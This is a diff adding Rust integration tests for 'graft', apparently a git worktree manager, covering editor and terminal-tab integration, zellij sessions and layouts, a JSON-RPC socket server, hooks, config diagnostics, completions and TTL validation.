+    for branch in ["mr/7", "pr/8"] {
+        assert!(
+            worktrees.contains(&(
+                fixture.repo.join(".worktrees").join(branch),
+                Some(branch.to_string())
+            )),
+            "{worktrees:?}"
+        );
+    }
+}
+
+#[test]
+fn worktrees_open_in_the_configured_editor() {
+    let fixture = Fixture::new();
+    std::fs::write(
+        fixture.repo.join(".graft.toml"),
+        "editor = \"touch {path}/.edited\"\n",
+    )
+    .unwrap();
+
+    fixture.graft_ok(&["topic", "--attach", "editor"]);
+    let out = fixture.graft_ok(&["other", "--editor", "--no-attach"]);
+
+    assert!(fixture.repo.join(".worktrees/topic/.edited").exists());
+    assert!(fixture.repo.join(".worktrees/other/.edited").exists());
+    assert!(out.trim().ends_with(".worktrees/other"), "{out}");
+}
+
+#[cfg(unix)]
+#[test]
+fn worktrees_open_in_wezterm_and_kitty_tabs() {
+    use std::os::unix::fs::PermissionsExt;
+
+    let fixture = Fixture::new();
+    let bin = fixture.root.join("bin");
+    std::fs::create_dir(&bin).unwrap();
+    let log = fixture.root.join("terminal.log");
+    for terminal in ["wezterm", "kitty"] {
+        let path = bin.join(terminal);
+        let script = format!(
+            "#!/bin/sh\n[ -n \"$FAIL\" ] && {{ echo 'no remote control' >&2; exit 1; }}\n\
+             echo \"{terminal} $*\" >> '{}'\n[ \"$2\" = spawn ] && echo 7\nexit 0\n",
+            log.display()
+        );
+        std::fs::write(&path, script).unwrap();
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
+    let open = |args: &[&str]| {
+        let output = fixture
+            .command(&fixture.repo, args)
+            .env("PATH", &path)
+            .output()
+            .unwrap();
+        assert!(output.status.success(), "{output:?}");
+    };
+
+    open(&["topic", "--attach", "wezterm", "--then", "rm"]);
+    open(&["other", "--attach", "kitty", "--", "make", "test"]);
+
+    let topic = fixture.repo.join(".worktrees/topic");
+    let other = fixture.repo.join(".worktrees/other");
+    let log = std::fs::read_to_string(&log).unwrap();
+    let lines: Vec<&str> = log.lines().collect();
+    assert_eq!(
+        lines,
+        [
+            format!("wezterm cli spawn --cwd {}", topic.display()),
+            "wezterm cli set-tab-title --pane-id 7 topic".to_string(),
+            format!(
+                "kitty @ launch --type=tab --cwd {} --tab-title other make test",
+                other.display()
+            ),
+        ]
+    );
+    // The tab was handed off, so there was nothing to run `--then` after.
+    assert!(topic.is_dir());
+
+    let output = fixture
+        .command(&fixture.repo, &["third", "--attach", "kitty"])
+        .env("PATH", &path)
+        .env("FAIL", "1")
+        .output()
+        .unwrap();
+    assert!(!output.status.success());
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(
+        stderr.contains("could not open a kitty tab: no remote control"),
+        "{stderr}"
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn serve_answers_json_rpc_on_a_unix_socket() {
+    use std::io::{BufRead, BufReader, Write};
+    use std::os::unix::net::UnixStream;
+
+    let fixture = Fixture::new();
+    let socket = fixture.root.join("graft.sock");
+    let mut server = fixture
+        .command(
+            &fixture.repo,
+            &["serve", "--socket", socket.to_str().unwrap()],
+        )
+        .spawn()
+        .unwrap();
+    let stream = (0..100)
+        .find_map(|_| {
+            std::thread::sleep(std::time::Duration::from_millis(50));
+            UnixStream::connect(&socket).ok()
+        })
+        .expect("graft serve never listened");
+    let mut lines = BufReader::new(stream.try_clone().unwrap()).lines();
+    let mut call = |request: &str| {
+        writeln!(&stream, "{request}").unwrap();
+        let line = lines.next().unwrap().unwrap();
+        serde_json::from_str::<serde_json::Value>(&line).unwrap()
+    };
+
+    let opened = call(r#"{"jsonrpc":"2.0","id":1,"method":"open","params":{"branch":"topic"}}"#);
+    let listed = call(r#"{"jsonrpc":"2.0","id":2,"method":"list"}"#);
+    let prefixed = call(r#"{"jsonrpc":"2.0","id":5,"method":"open","params":{"branch":"top"}}"#);
+    let pull = call(r#"{"jsonrpc":"2.0","id":6,"method":"open","params":{"branch":"pr:7"}}"#);
+    std::fs::write(fixture.repo.join(".worktrees/topic/new.txt"), "").unwrap();
+    let refused = call(r#"{"jsonrpc":"2.0","id":3,"method":"remove","params":{"branch":"topic"}}"#);
+    let unknown = call(r#"{"jsonrpc":"2.0","id":4,"method":"frobnicate"}"#);
+    server.kill().unwrap();
+    server.wait().unwrap();
+
+    assert_eq!(opened["id"], 1);
+    assert_eq!(opened["result"]["branch"], "topic", "{opened}");
+    assert_eq!(listed["result"][0]["branch"], "topic", "{listed}");
+    assert_eq!(prefixed["result"]["branch"], "topic", "{prefixed}");
+    assert_eq!(pull["error"]["code"], -32602, "{pull}");
+    assert_eq!(refused["error"]["code"], -32000, "{refused}");
+    assert_eq!(unknown["error"]["code"], -32601, "{unknown}");
+    assert_eq!(fixture.porcelain_worktrees().len(), 2);
+}
+
+#[cfg(unix)]
+#[test]
+fn serve_runs_concurrent_changes_one_at_a_time() {
+    use std::io::{BufRead, BufReader, Write};
+    use std::os::unix::fs::PermissionsExt;
+    use std::os::unix::net::UnixStream;
+
+    let fixture = Fixture::new();
+    let log = fixture.root.join("hook.log");
+    let hooks = fixture.repo.join(".graft/hooks");
+    std::fs::create_dir_all(&hooks).unwrap();
+    let hook = hooks.join("post-create");
+    std::fs::write(
+        &hook,
+        format!(
+            "#!/bin/sh
+echo \"start $GRAFT_BRANCH\" >> {log}
+sleep 1
+echo \"end $GRAFT_BRANCH\" >> {log}\n",
+            log = log.display()
+        ),
+    )
+    .unwrap();
+    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let socket = fixture.root.join("graft.sock");
+    let mut server = fixture
+        .command(
+            &fixture.repo,
+            &["serve", "--socket", socket.to_str().unwrap()],
+        )
+        .spawn()
+        .unwrap();
+    let connect = || {
+        (0..100)
+            .find_map(|_| {
+                std::thread::sleep(std::time::Duration::from_millis(50));
+                UnixStream::connect(&socket).ok()
+            })
+            .expect("graft serve never listened")
+    };
+    let open = |branch: &str| {
+        let stream = connect();
+        let request = format!(
+            r#"{{"jsonrpc":"2.0","id":1,"method":"open","params":{{"branch":"{branch}"}}}}"#
+        );
+        writeln!(&stream, "{request}").unwrap();
+        let line = BufReader::new(&stream).lines().next().unwrap().unwrap();
+        serde_json::from_str::<serde_json::Value>(&line).unwrap()
+    };
+
+    let (first, second) = std::thread::scope(|scope| {
+        let first = scope.spawn(|| open("one"));
+        let second = scope.spawn(|| open("two"));
+        (first.join().unwrap(), second.join().unwrap())
+    });
+    server.kill().unwrap();
+    server.wait().unwrap();
+
+    assert_eq!(first["result"]["branch"], "one", "{first}");
+    assert_eq!(second["result"]["branch"], "two", "{second}");
+    let log = std::fs::read_to_string(log).unwrap();
+    let lines: Vec<&str> = log.lines().collect();
+    assert_eq!(lines.len(), 4, "{log}");
+    for pair in lines.chunks(2) {
+        let branch = pair[0].strip_prefix("start ").unwrap();
+        assert_eq!(pair[1], format!("end {branch}"), "{log}");
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn zellij_pipe_creates_the_worktree_and_switches_to_its_session() {
+    let fixture = Fixture::new();
+    // Stands in for zellij: no sessions running, every call logged.
+    let calls = fixture.root.join("calls");
+    fixture.fake_zellij(&format!(
+        "case \"$1\" in\n\
+         list-sessions) ;;\n\
+         *) echo \"$*\" >> {} ;;\n\
+         esac\n",
+        calls.display()
+    ));
+
+    let out = fixture
+        .command(&fixture.repo, &["zellij-pipe", "topic"])
+        .env("ZELLIJ_SESSION_NAME", "wt-main")
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+    assert!(fixture.repo.join(".worktrees/topic").is_dir());
+    let out = fixture
+        .command(&fixture.repo, &["zellij-pipe", "--tab", "topic"])
+        .env("ZELLIJ_SESSION_NAME", "wt-main")
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+
+    let calls = std::fs::read_to_string(calls).unwrap();
+    let calls: Vec<&str> = calls
+        .lines()
+        .filter(|call| *call != "action query-tab-names")
+        .collect();
+    assert_eq!(calls.len(), 3, "{calls:?}");
+    assert!(calls[0].starts_with("attach --create-background wt-topic"));
+    assert_eq!(calls[1], "action switch-session wt-topic");
+    assert!(calls[2].starts_with("action new-tab --cwd "), "{calls:?}");
+    assert!(
+        calls[2].ends_with(".worktrees/topic --name topic"),
+        "{calls:?}"
+    );
+
+    let snippet = fixture.graft_ok(&["zellij-pipe", "--keybinding"]);
+    assert!(
+        snippet.contains("Run \"graft\" \"zellij-pipe\""),
+        "{snippet}"
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn tab_opens_worktrees_as_tabs_of_the_current_session() {
+    let fixture = Fixture::new();
+    // Stands in for zellij: one tab, `topic`, every other call logged.
+    let calls = fixture.root.join("calls");
+    fixture.fake_zellij(&format!(
+        "case \"$1 $2\" in\n\
+         list-sessions*) ;;\n\
+         'action query-tab-names') echo topic ;;\n\
+         *) echo \"$*\" >> {} ;;\n\
+         esac\n",
+        calls.display()
+    ));
+
+    let out = fixture
+        .command(&fixture.repo, &["other", "--tab"])
+        .env("ZELLIJ_SESSION_NAME", "wt-main")
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+    let out = fixture
+        .command(&fixture.repo, &["topic"])
+        .env("ZELLIJ_SESSION_NAME", "wt-main")
+        .env("GRAFT_SESSION_STRATEGY", "tabs")
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+
+    let calls = std::fs::read_to_string(calls).unwrap();
+    let calls: Vec<&str> = calls.lines().collect();
+    assert_eq!(calls.len(), 2, "{calls:?}");
+    assert!(calls[0].starts_with("action new-tab --cwd "), "{calls:?}");
+    assert!(
+        calls[0].ends_with(".worktrees/other --name other"),
+        "{calls:?}"
+    );
+    assert_eq!(calls[1], "action go-to-tab-name topic");
+}
+
+#[cfg(unix)]
+#[test]
+fn layouts_come_from_the_flag_the_branch_rules_then_the_purpose() {
+    let fixture = Fixture::new();
+    let layouts = fixture.repo.join(".graft/layouts");
+    std::fs::create_dir_all(&layouts).unwrap();
+    std::fs::write(
+        layouts.join("review.kdl"),
+        "layout { pane name=\"review\"; }\n",
+    )
+    .unwrap();
+    std::fs::write(layouts.join("minimal.kdl"), "layout { pane; }\n").unwrap();
+    std::fs::write(
+        fixture.repo.join(".graft.toml"),
+        "[policy.\"review/*\"]\nlayout = \"review\"\n\n[layouts]\nscratch = \"minimal\"\n",
+    )
+    .unwrap();
+    // Stands in for zellij: logs the layout each session starts with.
+    let started = fixture.root.join("started");
+    fixture.fake_zellij(&format!(
+        "case \"$1\" in\n\
+         --new-session-with-layout) cat \"$2\" >> {} ;;\n\
+         esac\n",
+        started.display()
+    ));
+
+    fixture.graft_ok(&["review/x"]);
+    fixture.graft_ok(&["topic", "--layout", "minimal"]);
+    fixture.graft_ok(&["tmp", "--purpose", "scratch"]);
+    // A path on the command line is relative to where graft runs.
+    std::fs::write(
+        fixture.root.join("mine.kdl"),
+        "layout { pane name=\"mine\"; }\n",
+    )
+    .unwrap();
+    let repo = fixture.repo.to_str().unwrap();
+    let out = fixture.graft_in(&fixture.root, &["-C", repo, "mine", "--layout", "mine.kdl"]);
+    assert!(out.status.success(), "{out:?}");
+    let out = fixture.graft(&["other", "--layout", "missing"]);
+    assert!(!out.status.success());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("layout missing is neither"), "{stderr}");
+
+    let started = std::fs::read_to_string(started).unwrap();
+    assert_eq!(
+        started,
+        "layout { pane name=\"review\"; }\nlayout { pane; }\nlayout { pane; }\n\
+         layout { pane name=\"mine\"; }\n"
+    );
+}
+
+#[test]
+fn doctor_reports_config_errors_and_missing_layouts() {
+    let fixture = Fixture::new();
+    std::fs::write(fixture.repo.join(".graft.toml"), "atach = \"shell\"\n").unwrap();
+    let out = fixture.graft_ok(&["doctor"]);
+    assert!(out.contains("could not load graft's settings"), "{out}");
+    assert!(!out.contains("not inside a git repository"), "{out}");
+
+    std::fs::write(
+        fixture.repo.join(".graft.toml"),
+        "[policy.\"review/*\"]\nlayout = \"review\"\n",
+    )
+    .unwrap();
+    let out = fixture.graft_ok(&["doctor"]);
+    assert!(
+        out.contains("[fail] [policy.\"review/*\"] layout is review, which does not exist"),
+        "{out}"
+    );
+}
+
+#[test]
+fn completions_data_lists_recents_and_aliases() {
+    let fixture = Fixture::new();
+    fixture.graft_ok(&["older", "--no-attach"]);
+    fixture.graft_ok(&["newer", "--no-attach"]);
+    fixture.graft_ok(&["install-git-aliases", "--local"]);
+
+    let out = fixture.graft_ok(&["completions-data"]);
+    let recent: Vec<&str> = out
+        .lines()
+        .filter_map(|line| line.strip_prefix("recent\t"))
+        .map(|line| line.split('\t').next().unwrap())
+        .collect();
+    assert_eq!(recent, ["newer", "older"], "{out}");
+    assert!(out.contains("alias\tgraft-rm\t"), "{out}");
+}
+
+#[cfg(unix)]
+#[test]
+fn after_runs_the_actions_once_the_session_ends() {
+    let fixture = Fixture::new();
+    fixture.graft_ok(&["topic", "--no-attach"]);
+    // Stands in for zellij: `wt-topic` runs until it is first listed.
+    let listed = fixture.root.join("listed");
+    fixture.fake_zellij(&format!(
+        "case \"$1\" in\n\
+         list-sessions) [ -e {0} ] || {{ touch {0}; echo wt-topic; }} ;;\n\
+         esac\n",
+        listed.display()
+    ));
+
+    fixture.graft_ok(&["open", "--after", "topic", "--then", "rm,gc"]);
+    assert!(!fixture.repo.join(".worktrees/topic").exists());
+
+    fixture.graft_ok(&["other", "--no-attach"]);
+    let out = fixture.graft(&["open", "--after", "other", "--then", "rm"]);
+    assert!(!out.status.success());
+    assert!(fixture.repo.join(".worktrees/other").exists());
+}
+
+#[test]
+fn an_overflowing_ttl_is_an_invalid_duration() {
+    let fixture = Fixture::new();
+
+    for ttl in ["99999999999999999w", "18446744073709551615s"] {
+        let output = fixture.graft(&["topic", "--no-attach", "--ttl", ttl]);
+
+        assert!(!output.status.success());
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        assert!(stderr.contains("invalid duration"), "{stderr}");
+    }
+    assert_eq!(fixture.porcelain_worktrees().len(), 1);
+}